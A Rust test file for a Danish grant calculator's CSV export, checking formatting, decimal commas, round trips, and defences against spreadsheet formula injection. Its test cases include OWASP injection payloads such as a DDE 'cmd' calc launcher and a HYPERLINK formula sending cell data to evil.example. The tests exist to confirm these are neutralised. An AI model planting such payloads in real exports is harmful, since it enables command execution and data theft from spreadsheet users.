//! The CSV export: format for Danish Excel, OWASP's formula-injection cases, round trips
//! through the batch reader.

use crate::support::kr;
use proptest::prelude::*;
use puljeberegner::domain::amount_input::MAX_AMOUNT;
use puljeberegner::domain::approach::Approach;
use puljeberegner::domain::batch::{check_row, read_batch, CheckedRow};
use puljeberegner::domain::count_input::MAX_TARGET;
use puljeberegner::domain::csv_export::{amount, export_csv, text_cell};
use puljeberegner::domain::money::Money;
use puljeberegner::domain::payout::Application;
use puljeberegner::texts::batch::BatchTexts;
use puljeberegner::texts::{batch::csv_texts, da::Da, Texts};

fn named(name: &str) -> CheckedRow {
    check_row(
        1,
        name.to_owned(),
        Application {
            budget: kr(1_202_550),
            target: 17,
        },
        Approach::Course,
    )
}

/// A strict reader written independently of the app's: every field must be quoted,
/// `;` between fields, CRLF after every row. Returns the rows of unquoted fields.
fn strict_fields(csv: &str) -> Vec<Vec<String>> {
    let body = csv.strip_prefix('\u{feff}').expect("starts with a BOM");
    assert!(body.ends_with("\r\n"), "ends with CRLF");
    let mut rows = vec![Vec::new()];
    let mut chars = body.chars().peekable();
    loop {
        assert_eq!(chars.next(), Some('"'), "every field opens with a quote");
        let mut field = String::new();
        loop {
            match chars.next().expect("every quote closes") {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => break,
                c => field.push(c),
            }
        }
        rows.last_mut().unwrap().push(field);
        match chars.next() {
            Some(';') => {}
            Some('\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR is followed by LF");
                if chars.peek().is_none() {
                    return rows;
                }
                rows.push(Vec::new());
            }
            other => panic!("after a field: {other:?}"),
        }
    }
}

#[test]
fn bom_semicolons_crlf_and_a_danish_header() {
    let csv = export_csv(&[named("KHRS")], csv_texts::<Da>());
    assert!(
        csv.starts_with("\u{feff}\"Projekt\";\"Ansøgt beløb (kr.)\";\"Resultatmål\";\"Tilgang\";")
    );
    let rows = strict_fields(&csv);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][..8], Da::CSV_HEADER);
    assert_eq!(rows[0][8..], ["Linje"]);
    assert_eq!(
        rows[1],
        [
            "KHRS",
            "1202550",
            "17",
            "Forløb",
            "70738",
            "9",
            "8",
            "Enhedsprisen på 70.738 kr. er mere end dobbelt så høj som gennemsnittet for forløbsprojekterne (inkl. AOF Midts hybrid) i første runde (34.006 kr.; samlet tildelt beløb / samlet resultatmål, tabel 3).",
            "1"
        ]
    );
    assert_eq!(csv.matches("\r\n").count(), 2);
    assert_eq!(csv.matches('\n').count(), 2, "no bare LF");
}

#[test]
fn no_rows_is_just_the_header() {
    let csv = export_csv(&[], csv_texts::<Da>());
    assert_eq!(strict_fields(&csv).len(), 1);
}

#[test]
fn amounts_have_a_decimal_comma_and_no_thousands_dots() {
    assert_eq!(amount(kr(5_649_208)), "5649208");
    assert_eq!(amount(Money::from_ore(123_456_750)), "1234567,50");
    assert_eq!(amount(Money::from_ore(47_948_208)), "479482,08");
    assert_eq!(amount(Money::from_ore(5)), "0,05");
    assert_eq!(amount(Money::ZERO), "0");
    let row = check_row(
        1,
        "Quick Care".into(),
        Application {
            budget: Money::from_ore(47_948_208),
            target: 30,
        },
        Approach::Network,
    );
    let rows = strict_fields(&export_csv(&[row], csv_texts::<Da>()));
    assert_eq!(rows[1][1], "479482,08");
    assert_eq!(rows[1][4], "15982");
}

#[test]
fn several_flags_are_joined_with_a_bar() {
    let row = check_row(
        1,
        "Stor".into(),
        Application {
            budget: kr(50_000_000),
            target: 300,
        },
        Approach::Network,
    );
    let rows = strict_fields(&export_csv(std::slice::from_ref(&row), csv_texts::<Da>()));
    let expected: Vec<String> = row.flags.iter().map(Da::flag).collect();
    assert_eq!(expected.len(), 5);
    assert_eq!(rows[1][7], expected.join(" | "));
}

#[test]
fn owasp_formula_cells_get_an_apostrophe() {
    let cases = [
        ("=1+2", "\"'=1+2\""),
        ("+1", "\"'+1\""),
        ("-1", "\"'-1\""),
        ("@SUM(A1)", "\"'@SUM(A1)\""),
        ("\t=cmd", "\"'\t=cmd\""),
        ("\r=cmd", "\"'\r=cmd\""),
        ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
        (
            "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Klik\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Klik\"\")\"",
        ),
        // Quoted as a whole, the text starts with a quote: no formula, no apostrophe.
        (
            "\"=HYPERLINK(\"\"x\"\")\"",
            "\"\"\"=HYPERLINK(\"\"\"\"x\"\"\"\")\"\"\"",
        ),
        // After leading spaces, and full-width forms.
        ("  =1+2", "\"'  =1+2\""),
        ("\u{ff1d}1+2", "\"'\u{ff1d}1+2\""),
        // Already with an apostrophe: one more, so the reader gives back the same text.
        ("'=1+2", "\"''=1+2\""),
        // Harmless texts are left alone.
        ("Code of Care", "\"Code of Care\""),
        ("1+2=3", "\"1+2=3\""),
        ("'Oles", "\"'Oles\""),
        (
            "Hansen; \"Jensen\"\nog co",
            "\"Hansen; \"\"Jensen\"\"\nog co\"",
        ),
        ("", "\"\""),
    ];
    for (text, cell) in cases {
        assert_eq!(text_cell(text), cell, "{text:?}");
    }
}

#[test]
fn owasp_names_in_the_exported_file() {
    let names = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=cmd", "\r=cmd"];
    let rows: Vec<CheckedRow> = names.iter().map(|n| named(n)).collect();
    let fields = strict_fields(&export_csv(&rows, csv_texts::<Da>()));
    for (exported, name) in fields[1..].iter().zip(names) {
        assert_eq!(exported[0], format!("'{name}"));
        // No exported cell starts with a formula character.
        for cell in exported {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
}

#[test]
fn numbers_come_from_typed_values_not_from_the_users_text() {
    // The user wrote the budget with dots and "kr."; the export writes the app's figure.
    let batch = read_batch("Projekt;Beløb;Resultatmål;Tilgang\nA;kr. 1.234.567,50;1.000;netværk\n")
        .unwrap();
    let rows = strict_fields(&export_csv(&batch.rows, csv_texts::<Da>()));
    assert_eq!(rows[1][1], "1234567,50");
    assert_eq!(rows[1][2], "1000");
}

fn round_trip(rows: &[CheckedRow]) {
    let csv = export_csv(rows, csv_texts::<Da>());
    let back = read_batch(&csv).unwrap_or_else(|e| panic!("{e:?}\n{csv}"));
    assert!(back.invalid.is_empty(), "{:?}", back.invalid);
    assert_eq!(back.rows.len(), rows.len());
    for (a, b) in rows.iter().zip(&back.rows) {
        assert_eq!(a.name, b.name);
        assert_eq!(a.application, b.application);
        assert_eq!(a.approach, b.approach);
        assert_eq!(a.unit_price, b.unit_price);
        assert_eq!(a.threshold_hires, b.threshold_hires);
        assert_eq!(a.rank, b.rank);
        assert_eq!(a.flags, b.flags);
    }
}

#[test]
fn round_trip_through_the_batch_reader() {
    let names = [
        "Code of Care",
        "=1+2",
        "+1",
        "-1",
        "@SUM(A1)",
        "'=1+2",
        "''@x",
        "'Oles",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Klik\")",
        "\"Citat\" i starten",
        "Hansen; Jensen, og \"co\"",
        "To\nlinjer",
        "Ærø Østerbro Århus",
        "Tab\tinde i",
        "Budget",
        "Projekt",
    ];
    let rows: Vec<CheckedRow> = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            check_row(
                i + 2,
                (*n).to_owned(),
                Application {
                    budget: Money::from_ore(100_000_000 + 12_345 * i as i64),
                    target: 1 + 7 * i as u32,
                },
                Approach::ALL[i % 3],
            )
        })
        .collect();
    round_trip(&rows);
}

#[test]
fn a_pasted_batch_survives_export_and_reading_back() {
    let text = "Tilgang\tProjekt\tBeløb\tResultatmål\r\nnetværk\tCode of Care\t5.649.208\t230\r\nhybrid\tAOF \"Midt\"\t1.424.930,99\t80\r\n";
    let first = read_batch(text).unwrap();
    assert_eq!(first.rows.len(), 2);
    round_trip(&first.rows);
}

proptest! {
    #[test]
    fn any_row_round_trips(
        name in "[^\r]{1,40}".prop_filter("trimmed, not empty", |n| !n.trim().is_empty() && n.trim() == n),
        ore in 1..=MAX_AMOUNT.ore(),
        target in 1..=MAX_TARGET,
        approach in 0usize..3,
    ) {
        let row = check_row(2, name, Application { budget: Money::from_ore(ore), target }, Approach::ALL[approach]);
        let csv = export_csv(std::slice::from_ref(&row), csv_texts::<Da>());
        let back = read_batch(&csv).unwrap();
        prop_assert!(back.invalid.is_empty(), "{:?}", back.invalid);
        prop_assert_eq!(back.rows.len(), 1);
        prop_assert_eq!(&back.rows[0].name, &row.name);
        prop_assert_eq!(back.rows[0].application, row.application);
        prop_assert_eq!(back.rows[0].approach, row.approach);
        for cell in &strict_fields(&csv)[1] {
            prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
    }
}
